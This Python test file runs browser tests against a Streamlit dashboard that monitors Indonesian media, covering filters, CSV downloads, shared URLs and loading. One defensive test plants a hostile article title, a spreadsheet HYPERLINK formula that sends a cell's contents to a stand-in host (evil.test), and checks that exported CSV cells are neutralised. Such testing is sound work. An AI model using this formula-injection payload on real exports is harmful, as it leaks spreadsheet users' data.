"""The dashboard in a real browser: filters, downloads, links, text from the data, loads while browsing."""
from __future__ import annotations

import csv
import io
import time

import duckdb
import pytest

from ..dashboard_data import build_dashboard_db
from .conftest import (
    _download,
    _need_chromium,
    _pick_actor,
    _serve,
    _wait_for_rerun,
)

pytestmark = pytest.mark.browser


def test_filter_by_actor_and_dates_then_download_csv(page, tmp_path):
    _filter_by_actor_and_dates_then_download_csv(page, tmp_path)


@pytest.mark.scaleout
def test_the_dashboard_on_a_lake_warehouse(s3_env, dask_scheduler, tmp_path, browser_pages):
    """The same page and the same CSV, from a lake on a local S3 loaded through 2 Dask workers."""
    _need_chromium()
    from etl.load import load_paths

    from ..conftest import SEEDS
    from ..dashboard_data import FIXTURE_PAGES

    lake = "s3://media/dashboard"
    report = load_paths([SEEDS, FIXTURE_PAGES], db=lake, progress=False, scheduler=dask_scheduler)
    assert report.added == 3 and report.workers == 2
    with _serve(lake, tmp_path / "streamlit.log") as url:  # MEDIA_DB=s3://..., the S3 settings inherited
        _filter_by_actor_and_dates_then_download_csv(browser_pages(url), tmp_path)


def _filter_by_actor_and_dates_then_download_csv(page, tmp_path):
    sidebar = page.get_by_test_id("stSidebar")
    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    _wait_for_rerun(page)

    # Streamlit's date range is a react-aria field: one spin button per year, month and day.
    for segment, value in (("year", "2025"), ("month", "01"), ("day", "01")):
        sidebar.get_by_role("spinbutton", name=f"{segment}, Date range start date").click()
        page.keyboard.type(value)
    page.keyboard.press("Escape")
    page.get_by_role("heading", name="Indonesian media monitor").click()  # blur commits the range
    page.get_by_text("Showing items mentioning Wang Xiaohong from 2025-01-01").wait_for(timeout=30_000)
    _wait_for_rerun(page)

    name, rows = _download(page, "Download countries data (CSV)", tmp_path)
    assert name == "countries_2025-01-01_2025-06-10_wang-xiaohong_article_count_week_top10.csv"
    assert rows, "the downloaded CSV is empty"
    assert list(rows[0]) == ["period", "kind", "entity", "entity_code", "items", "all_items", "share"]
    said = {(r["period"], r["entity"], r["entity_code"], r["items"]) for r in rows if r["items"] != "0"}
    assert said == {("2025-06-09", "Tiongkok", "CN", "1")}  # the week of 2025-06-10
    assert len({r["period"] for r in rows}) == 24  # every week of the range, empty ones as 0

    # The table is drawn on a canvas; its caption states the total.
    page.get_by_text("1 article match; showing 1-1").wait_for(timeout=10_000)


def test_download_at_once_after_a_change_gets_the_new_data(slow_server, browser_pages, tmp_path, dash_db):
    """The filter changes, and the button is clicked while the 2 s rerun is still computing: the file
    is the new filters' data under the new filters' name."""
    page = browser_pages(slow_server)
    name, rows = _download(page, "Download countries data (CSV)", tmp_path)
    everyone = {r["entity_code"] for r in rows if r["items"] != "0"}
    assert "all-actors" in name and {"CN", "VN"} <= everyone

    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    page.wait_for_timeout(200)  # the rerun has started, and holds 2 s before it draws anything
    # the page still shows the previous run: its caption, its download buttons
    assert page.get_by_text("Showing items mentioning Wang Xiaohong").count() == 0
    name, rows = _download(page, "Download countries data (CSV)", tmp_path)
    assert "wang-xiaohong" in name, name
    # the new filters' data, as the warehouse gives it
    from dashboard import queries

    first, last = queries.default_range(queries.overview(dash_db))
    f = queries.Filters(actors=("Wang Xiaohong",), start=first, end=last, interval=queries.auto_interval(first, last))
    expected = queries.chart(dash_db, f, ("country",)).data
    assert {r["entity_code"] for r in rows if r["items"] != "0"} == set(expected.loc[expected["items"] > 0, "entity_code"])
    assert len(rows) == len(expected) and "VN" not in {r["entity_code"] for r in rows}


def test_a_copied_url_reopens_the_same_view(page, browser_pages, server):
    _pick_actor(page, "Wang Xiao", "Wang Xiaohong")
    _wait_for_rerun(page)
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_text("Share", exact=True).click()
    _wait_for_rerun(page)
    sidebar.get_by_text("Trending sidebar", exact=True).click()
    _wait_for_rerun(page)
    url = page.url
    assert "actor=Wang+Xiaohong&" in url + "&" or "actor=Wang%20Xiaohong&" in url + "&", url

    again = browser_pages(url)
    again.get_by_text("Showing items mentioning Wang Xiaohong").wait_for(timeout=30_000)
    side = again.get_by_test_id("stSidebar")
    assert side.get_by_role("radio", name="Share").is_checked()
    assert side.get_by_role("radio", name="Trending sidebar").is_checked()
    assert "Wang Xiaohong" in side.get_by_test_id("stMultiSelect").first.inner_text()
    assert "% of all trending items" in again.content() or again.get_by_text("Trending headlines").count()


def test_the_picker_offers_the_most_mentioned_first(page, dash_db):
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_test_id("stMultiSelect").first.click()
    page.keyboard.type("a")
    options = page.get_by_role("option").all_inner_texts()
    con = duckdb.connect(str(dash_db), read_only=True)
    items = dict(con.execute("SELECT entity, items FROM entities WHERE kind IN ('person', 'organization')").fetchall())
    con.close()
    assert options and not [o for o in options if o.lower().startswith("select")]  # no select-all
    counts = [items[o] for o in options]
    assert counts == sorted(counts, reverse=True)  # most mentioned first


# --- the analyst's pages: each driven in the browser, its CSV checked against the warehouse ------

HOSTILE_OUTLET = "**x** $y$ :red[z] :material/warning:"
HOSTILE_TITLE = '=HYPERLINK("http://evil.test/leak?x="&A1,"Presiden Joko Widodo")'


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    _need_chromium()
    from etl.load import load_paths

    folder = tmp_path_factory.mktemp("hostile")
    with open(folder / "hostile.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["title", "content", "date", "source"])
        w.writerow([HOSTILE_TITLE, "Presiden Joko Widodo meresmikan jembatan di Jakarta.", "2025-05-01", HOSTILE_OUTLET])
        w.writerow(["+62 Presiden Joko Widodo ke Bandung", "Presiden Joko Widodo tiba di Bandung.", "2025-05-02", HOSTILE_OUTLET])
        w.writerow(["@Jokowi di Surabaya", "Presiden Joko Widodo tiba di Surabaya.", "2025-05-03", HOSTILE_OUTLET])
    db = folder / "hostile.duckdb"
    load_paths([folder / "hostile.csv"], db=db, progress=False)
    with _serve(db, tmp_path_factory.mktemp("log") / "hostile.log") as url:
        yield url


def test_text_from_the_data_shows_literally_and_csv_cells_never_start_a_formula(hostile_server, browser_pages, tmp_path):
    from urllib.parse import quote_plus

    page = browser_pages(f"{hostile_server}/?outlet={quote_plus(HOSTILE_OUTLET)}")
    page.get_by_text("Showing items from").first.wait_for(timeout=30_000)
    captions = [t.replace("\u2060", "") for t in page.get_by_test_id("stCaptionContainer").all_inner_texts()]
    assert any(f"from {HOSTILE_OUTLET}." in t for t in captions), captions  # literally (the word joiner is invisible)
    assert page.locator(".katex").count() == 0
    assert page.locator("[data-testid='stCaptionContainer'] [data-testid='stIconMaterial']").count() == 0
    page.get_by_text(HOSTILE_TITLE).first.wait_for(timeout=30_000)  # the article's title, as typed
    name, rows = _download(page, "Download all 3 articles (CSV)", tmp_path)
    raw = (tmp_path / name).read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(raw)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    titles = {r["title"] for r in rows}
    assert "'" + HOSTILE_TITLE in titles and "'+62 Presiden Joko Widodo ke Bandung" in titles


def test_the_dashboard_shows_the_last_load_while_the_next_runs(tmp_path_factory, browser_pages):
    """A load writes the warehouse; the page keeps showing the previous load's data (the published
    snapshot), and the new data once the load has finished."""
    _need_chromium()
    from ..test_concurrency import _load, write_rows

    folder = tmp_path_factory.mktemp("during")
    db = build_dashboard_db(folder / "w.duckdb")
    with _serve(db, folder / "streamlit.log") as url:
        load = _load([write_rows(folder / "more.csv", 8000)], db)  # long enough to look at the page meanwhile
        try:
            time.sleep(2.0)
            assert load.poll() is None, "the load ended too soon to test anything"
            page = browser_pages(url)
            page.get_by_text("3 articles (3 dated").wait_for(timeout=60_000)
            assert page.get_by_text("A load is writing").count() == 0
            assert load.poll() is None, "the page was read after the load had ended"
        finally:
            out, err = load.communicate(timeout=600)
        assert load.returncode == 0, err
        page = browser_pages(url)
        page.get_by_text("8,003 articles").first.wait_for(timeout=60_000)
